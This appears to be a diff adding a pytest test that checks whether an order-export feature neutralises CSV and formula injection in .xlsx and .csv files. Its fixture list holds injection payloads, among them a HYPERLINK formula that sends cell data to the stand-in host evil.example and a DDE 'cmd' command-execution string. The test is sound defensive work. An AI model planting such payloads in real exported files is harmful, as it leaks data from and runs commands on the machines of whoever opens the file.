@@ -116,3 +116,32 @@ def test_cli_export_by_stage_and_dates(db_url, three, tmp_path, capsys):
     assert rows[1][8] == "주문접수"
     bad = cli_main(["--db", db_url, "export", "--out", str(tmp_path / "x.pdf")])
     assert bad == 1
+
+
+@pytest.mark.rule("R36")
+@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
+def test_shop_data_never_becomes_a_live_formula(session, uow, catalog, tmp_path, suffix):
+    """CSV / formula injection: a buyer named `=HYPERLINK(…)` is text in the file, not a formula."""
+    evil = [
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        "+82 10-1234-5678",
+        "-2+3+cmd|' /C calc'!A0",
+        "@SUM(1+1)",
+        "\t=1+1",
+        "\r=1+1",
+    ]
+    for minutes, name in enumerate(evil):
+        place_for(uow, name, minutes=minutes)
+    out = tmp_path / f"orders{suffix}"
+    export_orders(session, out, ListFilter(), ["buyer", "total"])
+    if suffix == ".xlsx":
+        sheet = openpyxl.load_workbook(out).active
+        cells = [row[0] for row in sheet.iter_rows(min_row=2)]
+        assert all(c.data_type == "s" for c in cells), [c.data_type for c in cells]
+        values = [c.value.replace("\n", "\r") for c in cells]  # XML reads a CR back as LF
+        totals = [row[1].value for row in sheet.iter_rows(min_row=2)]
+        assert all(isinstance(t, int) for t in totals)  # numbers stay numbers
+    else:
+        with out.open(encoding="utf-8-sig", newline="") as fh:
+            values = [row[0] for row in list(csv.reader(fh))[1:]]
+    assert sorted(values) == sorted("'" + name for name in evil)
